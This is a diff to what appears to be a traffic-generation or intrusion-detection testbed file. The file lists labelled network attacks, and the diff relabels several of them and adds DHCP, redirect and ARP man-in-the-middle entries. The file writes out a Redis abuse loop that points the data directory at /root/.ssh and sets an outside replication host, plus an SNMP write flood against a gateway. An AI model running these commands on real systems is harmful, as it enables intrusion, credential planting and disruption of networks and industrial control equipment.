@@ -63,7 +63,7 @@ INTRUSIONS = (
     ),
     attack(
         "misuse-redis",
-        "lateral",
+        "exploit",
         'sh -c \'for w in "CONFIG SET dir /root/.ssh" "CONFIG SET dbfilename x" "KEYS *" '
         '"MODULE LIST" "SLAVEOF 10.77.0.66 6379"; do redis-cli -h {server} $w; sleep 1; done\'',
         "redis",
@@ -71,7 +71,7 @@ INTRUSIONS = (
     ),
     attack(
         "snmp-set",
-        "lateral",
+        "exploit",
         "sh -c 'for n in $(seq {count}); do snmpset -v2c -c private -r 0 "
         "-t 1 {gateway} 1.3.6.1.2.1.1.5.0 s x$n; done'",
         "snmp",
@@ -82,6 +82,10 @@ INTRUSIONS = (
     attack(
         "switch-breakers", "ics-attack", "{play} switch-breakers {server} {count} {pause}", "iec104"
     ),
-    attack("spy-mqtt", "iot-attack", "{play} spy-mqtt {server} {count} {pause}", "mqtt"),
-    attack("starve-leases", "local", "{play} starve-leases {gateway} {count} 0", "dhcp"),
+    attack("spy-mqtt", "exploit", "{play} spy-mqtt {server} {count} {pause}", "mqtt"),
+    attack("starve-leases", "flood", "{play} starve-leases {gateway} {count} 0", "dhcp"),
+    attack("offer-leases", "mitm", "{play} offer-leases {gateway} {count} {pause}", "dhcp"),
+    attack("redirect", "mitm", "{play} redirect {server} {count} {pause}"),
+    # ARP has no flows: who claims addresses is seen in the frames alone.
+    attack("claim-addresses", "mitm", "{play} claim-addresses {server} {count} {pause}"),
 )
